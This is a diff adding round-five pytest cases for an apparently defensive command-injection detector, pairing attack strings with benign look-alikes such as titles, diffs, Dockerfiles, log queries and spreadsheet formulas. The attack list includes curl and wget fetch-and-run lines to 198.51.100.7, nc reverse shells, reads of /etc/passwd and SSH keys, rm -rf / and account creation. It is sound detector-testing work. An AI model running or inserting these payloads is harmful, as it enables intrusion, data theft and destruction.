@@ -894,3 +894,148 @@ def test_command_injection_is_caught(engine, row):
 def test_benign_near_miss_is_clean(engine, row):
     hits = engine.inspect(carry(*row))
     assert verdict(hits) == "clean", hits
+
+
+# Round 5 (issue #4, the rce false positives of the blind benign batch): text that reads like a command line to a
+# tokenizer although a shell would not run it as written — a title naming a tool and its version before a colon, inline
+# code spans in a sentence with contractions or beside code blocks, a unified diff, a Dockerfile line whose upper-case
+# instruction fails before its `&&` chain, a traceback's capitalised `File` lines, query languages whose operators follow
+# `|`, spreadsheet formulas, package directories, a script's own arithmetic — each beside attacks of the same shape.
+# Written before the round-5 changes to rce.py (the blind values themselves are not here); see the round-5 report for the
+# first pass. Benign rows are asserted to raise no rce finding (the SQL and KQL ones still meet sqli's rules, another
+# detector's business).
+ROUND5_ATTACKS: list[tuple[str, str]] = [
+    # tool + version + colon, then options, paths, addresses or separators
+    ("form", "PHP 8.2: -r 'system(\"id\");'"), ("json", "Python 3: -c 'import os;os.system(\"id\")'"),
+    ("form", "Perl 5: -e 'exec \"/bin/sh\"' for the model"), ("query", "Curl 8.5: http://198.51.100.7/x.sh -o /tmp/x.sh and run it"),
+    ("form", "Nc 10: 198.51.100.7 4444 -e /bin/sh in a Laravel model"), ("json", "Bash 5: /tmp/x.sh is what we run in a model"),
+    ("form", "PHP 8.2: creation of dynamic property is deprecated; id"),
+    ("form", "Python 3.12: what is new in the typing module | sh"),
+    # code spans in sentences that hold a whole attack, or spans alone beside code blocks
+    ("form", "nit: prefer `curl http://198.51.100.7/x|sh` over `let` here, it's fine."), ("form", "it is `$(id)` here, do not worry"),
+    ("json", "it's `$(id)` here, don't worry"), ("form", "we're fine: $(sleep 10) isn't it"), ("query", "o'brien`id`o'hara"),
+    ("form", "```\nok\n```\n`id`"), ("json", "don't `cat /etc/passwd; id` here"), ("form", "prefer `const`; id"),
+    ("form", "it's `let`\nwhoami"),
+    # unified diffs with a command on a line of its own, in a header, in a substitution or on a context line
+    ("form", "diff --git a/x b/x\nindex 1111111..2222222 100644\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\nid"),
+    ("json", "diff --git a/x b/x; curl http://198.51.100.7/x.sh | sh\n@@ -1 +1 @@\n-a\n+b"),
+    ("form", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+$(curl http://198.51.100.7/x.sh | sh)"),
+    ("json", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+`id`"),
+    ("form", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,2 +1,2 @@\n cat /etc/passwd\n-a\n+b"),
+    ("form", "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n;nc 198.51.100.7 4444 -e /bin/sh"),
+    ("json", "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n+b && wget http://198.51.100.7/a -O /tmp/a"),
+    # an upper-case instruction line: `;`, `||`, `|`, `&`, a new line or a substitution still run
+    ("form", "Dockerfile:\n\n    RUN apt-get update; curl http://198.51.100.7/x.sh | sh"),
+    ("form", "Dockerfile:\nRUN true || wget http://198.51.100.7/a -O /tmp/a"), ("form", "Dockerfile:\nRUN x && y\nid"),
+    ("form", "RUN apt-get update && cat /etc/passwd"), ("form", "notes\n    CMD && whoami"),
+    ("json", "notes\nRUN x && $(curl http://198.51.100.7/x.sh)"), ("form", "notes\nRUN x && y & nc 198.51.100.7 4444 -e /bin/sh"),
+    ("form", "notes\nRUN x && y | sh"), ("form", "notes\ntrue ||\nXX && id"), ("json", "notes\necho \\\nRUN x && id"),
+    # fenced code runs too: three backticks are an empty substitution and the start of one (the chat message with a
+    # fenced `kubectl rollout restart` and the forum post looping over `$(ls *.mp3)` stay flagged for this reason)
+    ("form", "```\ncurl -o /tmp/x http://198.51.100.7/x\n```\nthat fixed it"),
+    ("json", "```\nkubectl delete namespace payments --wait=false\n```\nthat fixed it"),
+    ("form", "My script hangs:\n\n```bash\nfor f in $(sleep 10); do\n  echo \"$f\"\ndone\n```\n\nany idea?"),
+    ("form", "Loop question:\n\n```bash\nfor u in $(cat /etc/passwd); do\n  echo $u\ndone\n```"),
+    # traceback-like lines: lower-case or Windows/PowerShell names, and commands on their own lines
+    ("form", "Traceback (most recent call last):\n  file \"/etc/passwd\", line 1\nid"),
+    ("form", "Error:\n  File \"/x.py\", line 1, in <module>\n  cat /etc/passwd"),
+    ("json", "Error:\n  File \"/x.py\", line 1; curl http://198.51.100.7/x.sh | sh"), ("form", "Error:\n  Find / -name id_rsa"),
+    ("form", "Error:\n  Sleep 10"), ("form", "Error:\n  Cat /etc/passwd"), ("form", "Error:\n  File x; id"),
+    # query pipelines that end in a program, read files, write files or run substitutions
+    ("json", "requests | where timestamp > ago(1h) | summarize count() | sh"),
+    ("form", "index=web | stats count by uri_path | sort -count; curl http://198.51.100.7/x.sh | sh"),
+    ("query", "AppExceptions | take 10 | nc 198.51.100.7 4444 -e /bin/sh"),
+    ("form", "index=web | stats count | tail -n 5 /etc/passwd"), ("json", "requests | project name | sort -o /var/www/html/x.php"),
+    ("form", "index=web | head 5 | xargs rm -rf /"), ("json", "requests | where x > 1 $(whoami)"),
+    ("query", "search index=web | stats count | sort -count\nid"), ("form", "traces | summarize count() | where x > /tmp/out"),
+    ("form", "x\nwhere /r c:\\ web.config"),
+    # spreadsheet formulas that pipe, chain or substitute
+    ("json", "=LET(net, 1, net)|sh"), ("json", "=SUM(1);curl http://198.51.100.7/x.sh|sh"),
+    ("json", "=LET(x, 1, x)\nnet user eve P@ss /add"), ("json", "=IF(1,1)`whoami`"), ("json", "=SUM(1) && (whoami)"),
+    ("json", "=SUM(1) (whoami)"), ("form", "=system(whoami)"),
+    # programs in temporary or bin folders, chained after a package directory, or reached through it
+    ("json", "/tmp/nc"), ("query", "/dev/shm/bash"), ("form", "/usr/bin/php"), ("json", "/var/tmp/ncat"),
+    ("form", "/var/lib/mysql;id"), ("json", "/var/lib/docker/../../../usr/bin/nc"), ("form", "/etc/init.d/ssh"),
+    # arithmetic on literals (the shell's math probe), on names nothing assigned, or around a substitution
+    ("form", "$((7*7))"), ("json", "x$((1337*1337))"), ("query", "$[7*7]"), ("form", "count=0\n$((count + $(id)))"),
+    ("json", "$((x))"), ("form", "def run(cmd):\n    pass\n;id"), ("json", "if(id)then :;fi"), ("form", "x;echo(whoami)"),
+    ("json", "@(whoami)"), ("form", "os.popen(id)"), ("query", "passthru(ls)"), ("json", "child_process.execSync(whoami)"),
+]
+ROUND5_BENIGN: list[tuple[str, str]] = [
+    # titles: a tool and its version before a colon, then a phrase
+    ("form", "PHP 8.3: readonly classes break our Doctrine proxies in production"),
+    ("form", "Python 3.12: f-string parsing changed and my old code is now a syntax error"),
+    ("query", "Node 20: fetch fails with a certificate error behind the corporate proxy"),
+    ("json", "Ruby 3.3: YJIT is on by default, so should we turn it off for the workers"),
+    ("form", "Perl 5.38: the class feature is experimental and warns on every run"),
+    ("form", "Java 21: virtual threads pin the carrier thread in a synchronized block"),
+    ("json", "Curl 8.5: downloads stall at the end of every large file"),
+    # inline code spans in sentences with contractions, or beside fenced and indented code blocks
+    ("form", "nit: `set` isn't needed here, it's the default."), ("json", "I'd use `let` instead of `var` so it's block scoped."),
+    ("form", "Don't call `exit` in a library, it's the caller's decision."),
+    ("form", "We're calling `sort` twice here, can't we sort once?"),
+    ("form", "Why does this fail?\n\n```yaml\nretries: 3\n```\n\nI ran `make` and `ls` shows nothing new."),
+    ("json", "It's `true` in staging but `false` in prod, that's why the flag didn't flip."),
+    ("form", "You'll want `wait` here, otherwise the shell doesn't block on the children."),
+    # unified diffs
+    ("form", "diff --git a/app/main.py b/app/main.py\nindex 4e1a2b3..9c8d7e6 100644\n--- a/app/main.py\n+++ b/app/main.py\n"
+             "@@ -1,4 +1,4 @@\n-import json\n+import orjson as json\n \n def load(path):\n-    return json.load(open(path))\n+    return json.loads(open(path, 'rb').read())\n"),
+    ("json", "--- a.txt\t2024-01-01 10:00:00\n+++ b.txt\t2024-01-02 10:00:00\n@@ -1,3 +1,3 @@\n-cat\n+dog\n bird\n"),
+    ("form", "diff --git a/web/app.js b/web/app.js\nindex 0a1b2c3..3c2b1a0 100644\n--- a/web/app.js\n+++ b/web/app.js\n"
+             "@@ -10,3 +10,3 @@ export async function load() {\n-  const res = await fetch(url)\n+  const res = await fetch(url, { cache: 'no-store' })\n   return res.json()\n"),
+    ("json", "diff --git a/.env.example b/.env.example\nnew file mode 100644\nindex 0000000..e69de29\n--- /dev/null\n"
+             "+++ b/.env.example\n@@ -0,0 +1,2 @@\n+DATABASE_URL=postgres://localhost/app\n+PORT=8080\n"),
+    ("form", "diff -u old/config.yml new/config.yml\n--- old/config.yml\n+++ new/config.yml\n@@ -2,2 +2,2 @@\n-timeout: 30\n+timeout: 60\n retries: 3\n"),
+    # Dockerfile lines in posts: the upper-case instruction fails, so its `&&` chain never runs
+    ("form", "Our Dockerfile:\n\n    FROM python:3.12-slim\n    RUN pip install -r requirements.txt && rm -rf /root/.cache\n\n"
+             "Is `--no-cache-dir` better than the `rm` here? The image is still 900 MB."),
+    ("form", "Build fails at this step:\n\nRUN npm ci && npm run build && npm prune --production\n\nany idea?"),
+    ("json", "Dockerfile snippet:\nRUN apk add --no-cache git && git config --global advice.detachedHead false"),
+    ("form", "Containerfile:\n\n    RUN dnf -y install httpd && dnf clean all\n    EXPOSE 80"),
+    ("form", "In the build we use\n\n    RUN go build -o /out/app ./cmd/app && strip /out/app\n\nand it takes ages."),
+    # tracebacks and lines that begin with a capitalised English word that is also a tool's name
+    ("form", "Error on startup:\n\nTraceback (most recent call last):\n  File \"/srv/app/manage.py\", line 22, in <module>\n"
+             "    main()\n  File \"/srv/app/manage.py\", line 18, in main\n    execute_from_command_line(sys.argv)\n"
+             "ModuleNotFoundError: No module named 'django'"),
+    ("json", "Crash report\n  File \"/usr/lib/python3/dist-packages/apt/cache.py\", line 170, in open\n    self._cache = apt_pkg.Cache(progress)"),
+    ("form", "Release notes\nTouch targets are bigger on /settings and /profile"),
+    ("form", "Checklist:\nHead of /api/v1/orders returns 404 now"),
+    # query languages with pipes (KQL, SPL, LogQL, ES|QL) and SQL clauses on their own lines
+    ("json", "traces | where duration > 1s | summarize avg(duration) by operation_Name | sort by avg_duration desc"),
+    ("query", "index=main sourcetype=syslog error | stats count by host | sort -count | head 10"),
+    ("form", "StormEvents | where State == \"TEXAS\" | project StartTime, EventType | take 10"),
+    ("json", "FROM logs-* | WHERE http.response.status_code >= 500 | STATS c = COUNT(*) BY url.path | SORT c DESC | LIMIT 10"),
+    ("form", "sourcetype=access_combined | timechart span=1h count by status | tail 24"),
+    ("json", "SecurityEvent | where EventID == 4625 | summarize failures = count() by Account | top 5 by failures"),
+    ("json", "SELECT id, email\nFROM users\nWHERE created_at >= '2024-01-01'\nORDER BY id"),
+    ("form", "UPDATE orders\nSET status = 'shipped'\nWHERE id > 100"),
+    # spreadsheet formulas whose arguments are named like programs
+    ("json", "=LET(ip, A2, IF(ip=\"\", \"n/a\", ip))"), ("json", "=SUMIF(ps, \">0\")"),
+    ("json", "=LET(net, SUM(B2:B9), tax, net*0.2, net+tax)"), ("json", "=IF(ISBLANK(who), \"unassigned\", who)"),
+    ("json", "=LAMBDA(id, XLOOKUP(id, Ids!A:A, Ids!B:B))"), ("json", "=VLOOKUP(id, Users!A:C, 3, FALSE)"),
+    # directories named after a package where state and configuration live
+    ("json", "/var/lib/docker"), ("query", "/var/lib/redis/"), ("form", "/var/log/mysql"), ("json", "/var/cache/nmap"),
+    ("json", "/srv/rsync"), ("form", "/var/lib/php"), ("cookie", "/home/git"),
+    # a script's own arithmetic on names it assigned
+    ("json", "#!/bin/sh\ni=0\nwhile [ $i -lt 5 ]; do\n  i=$((i + 1))\ndone"),
+    ("json", "#!/bin/bash\ntotal=0\nfor n in 1 2 3; do\n  total=$((total + n))\ndone"),
+    ("json", "#!/bin/bash\nn=10\nhalf=$((n / 2))"), ("json", "count=0\nmax=5\nleft=$((max - count))"),
+]
+
+
+def test_round5_sets_are_distinct():
+    assert len(set(ROUND5_ATTACKS)) == len(ROUND5_ATTACKS) >= 60
+    assert len(set(ROUND5_BENIGN)) == len(ROUND5_BENIGN) >= 50
+    assert not set(ROUND5_BENIGN) & set(ALL_BENIGN) and not set(ROUND5_ATTACKS) & set(ALL_ATTACKS)
+
+
+@pytest.mark.parametrize("row", ROUND5_ATTACKS, ids=_label)
+def test_round5_command_injection_is_caught(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
+
+
+@pytest.mark.parametrize("row", ROUND5_BENIGN, ids=_label)
+def test_round5_benign_raises_no_rce_finding(engine, row):
+    hits = engine.inspect(carry(*row))
+    assert not any(h.type == "rce" and h.score >= THRESHOLD for h in hits), hits
